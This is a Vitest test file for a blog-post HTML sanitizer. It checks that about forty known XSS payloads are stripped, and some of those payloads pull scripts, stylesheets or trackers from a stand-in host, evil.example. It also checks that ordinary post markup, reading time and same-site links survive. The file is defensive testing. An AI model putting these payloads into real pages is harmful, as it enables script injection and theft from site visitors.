import { describe, expect, it } from 'vitest';
import { plainTextOf, readingMinutesOf, sanitizePostHtml } from './blog-html';

/** Known XSS payloads (OWASP filter-evasion cheat sheet and friends): none may survive. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a-640w.webp" onerror="alert(1)" alt="x">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/tracker.gif" alt="t">',
  '<img src="//evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x" src="/media/a-640w.webp" alt="a">',
  '<p onclick="alert(1)" onmouseover="alert(1)">text</p>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="#" class="x" id="y" data-x="1" target="_top">link</a>',
  '<template><script>alert(1)</script></template>',
  '<h2 style="color:red" class="evil">heading</h2>',
];

describe('the post sanitizer', () => {
  it.each(PAYLOADS)('leaves nothing that runs: %s', (payload) => {
    const clean = sanitizePostHtml(payload);
    expect(clean).not.toMatch(
      /<script|<iframe|<object|<embed|<style|<link|<meta|<svg|<math|<form|<input|<base|<template/i,
    );
    expect(clean).not.toMatch(/\son[a-z]+\s*=/i);
    expect(clean).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(clean).not.toMatch(/\sstyle\s*=|\sclass\s*=|\sid\s*=|\starget\s*=/i);
    expect(clean).not.toMatch(/evil\.example/);
    // Every remaining src is a picture of this site's pipeline.
    for (const src of clean.matchAll(/\ssrc="([^"]*)"/g)) expect(src[1]).toMatch(/^\/media\//);
  });

  it('keeps what a post is made of: headings, emphasis, lists, quotes, links and pipeline pictures', () => {
    const html =
      '<h2>Before you visit</h2><p><strong>Bring</strong> the <em>plot</em> number and <a href="https://example.org/rules">the rules</a>.</p>' +
      '<ul><li><p>One</p></li></ul><ol><li>Two</li></ol><blockquote><p>A quote</p></blockquote>' +
      '<img src="/media/abc-640w.webp" srcset="/media/abc-640w.webp 640w, /media/abc-1200w.webp 1200w" alt="A gray headstone" width="640" height="480">';
    const clean = sanitizePostHtml(html);
    expect(clean).toContain('<h2>Before you visit</h2>');
    expect(clean).toContain('<strong>Bring</strong>');
    expect(clean).toContain('<a href="https://example.org/rules" rel="noopener noreferrer">the rules</a>');
    expect(clean).toContain('<blockquote><p>A quote</p></blockquote>');
    expect(clean).toContain('srcset="/media/abc-640w.webp 640w, /media/abc-1200w.webp 1200w"');
    expect(clean).toContain('alt="A gray headstone"');
    expect(clean).toContain('loading="lazy"');
  });

  it('turns a second h1 into h2 (the page has its own h1)', () => {
    expect(sanitizePostHtml('<h1>Big</h1>')).toBe('<h2>Big</h2>');
  });

  it('counts reading time from the words', () => {
    const words = Array.from({ length: 660 }, () => 'word').join(' ');
    expect(readingMinutesOf(`<p>${words}</p>`)).toBe(3);
    expect(readingMinutesOf('')).toBe(1);
    expect(plainTextOf('<p>Tom &amp; Jerry</p><p>next</p>')).toBe('Tom & Jerry next');
  });
});

describe('links that leave the site by a protocol-relative address', () => {
  it('keeps no href that starts with // (another host, whatever the scheme of the page)', () => {
    for (const href of ['//evil.example/x', '//evil.example', '\\\\evil.example/x', '/\\evil.example/x']) {
      const clean = sanitizePostHtml(`<p><a href="${href}">away</a></p>`);
      expect(clean, href).not.toMatch(/href="(\/\/|\\\\|\/\\)/);
      expect(clean).toContain('away');
    }
    // The site's own paths are kept.
    expect(sanitizePostHtml('<p><a href="/faq">questions</a></p>')).toContain('href="/faq"');
  });
});
